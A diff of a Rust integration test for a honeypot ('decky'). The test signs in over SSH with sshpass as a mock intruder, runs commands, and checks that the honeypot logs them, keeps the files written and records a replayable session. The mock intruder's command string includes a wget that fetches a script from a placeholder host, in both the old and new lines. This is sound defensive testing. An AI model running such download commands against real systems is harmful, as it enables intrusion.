@@ -46,7 +46,7 @@ async fn an_intruder_signs_in_over_ssh_and_everything_is_kept() {
     // The decky's own password opens.
     let (user, password) = world.account(&name);
     let login = format!("{user}@{ip}");
-    let right = [&["-p", &password][..], &["ssh"], &options, &[&login, "whoami; echo kept > /tmp/left; wget http://198.51.100.1/x.sh"]].concat();
+    let right = [&["-p", &password][..], &["ssh"], &options, &[&login, "whoami; echo kept > /tmp/left; wget -t 1 http://mirror.invalid/x.sh"]].concat();
     let (_, out, err) = client("sshpass", &right, b"").await;
     assert!(text(&out).starts_with(&user), "{} {}", text(&out), text(&err));
     let logs = world.until("/logs?search=service:ssh&limit=100", |l| has_event(l, "command") && has_event(l, "url_seen")).await;
@@ -55,7 +55,7 @@ async fn an_intruder_signs_in_over_ssh_and_everything_is_kept() {
     let again = [&["-p", &password][..], &["ssh"], &options, &[&login, "cat /tmp/left"]].concat();
     assert_eq!(text(&client("sshpass", &again, b"").await.1), "kept\n");
     // Its sessions can be replayed.
-    let sessions = world.until("/sessions?service=ssh", |s| s["data"].as_array().unwrap().iter().any(|s| !s["recording"].is_null())).await;
+    let sessions = world.until("/sessions?recorded=true", |s| s["data"].as_array().unwrap().iter().any(|s| !s["recording"].is_null())).await;
     let session = sessions["data"].as_array().unwrap().iter().find(|s| !s["recording"].is_null()).unwrap().clone();
     let replay = world.get(&format!("/transcripts/{name}/{}", session["sid"].as_str().unwrap())).await;
     assert_eq!(replay["header"]["version"], 2);
